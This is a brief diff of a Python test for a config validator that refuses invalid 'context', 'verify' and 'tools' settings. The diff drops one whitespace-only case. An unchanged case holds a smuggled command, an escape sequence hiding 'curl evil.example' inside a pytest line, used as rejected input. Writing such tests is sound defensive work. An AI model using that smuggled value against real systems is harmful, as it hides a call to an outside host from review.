@@ -50,7 +50,6 @@ async def refused(tmp: Path, *, config: str = "", **more: Any) -> str:
         ({"context": None}, "context: coder changes files and needs it"),
         ({"context": " \n"}, "context: coder changes files and needs it"),
         ({"verify": "one\ntwo"}, "verify: it must be one command line"),
-        ({"verify": " "}, "verify: it must be one command line"),
         ({"verify": "pytest \x1b]0;; curl evil.example #\x07"}, "verify: it must be one command line"),
         ({"tools": ["read_file"]}, "with these tools coder changes no files"),
     ],
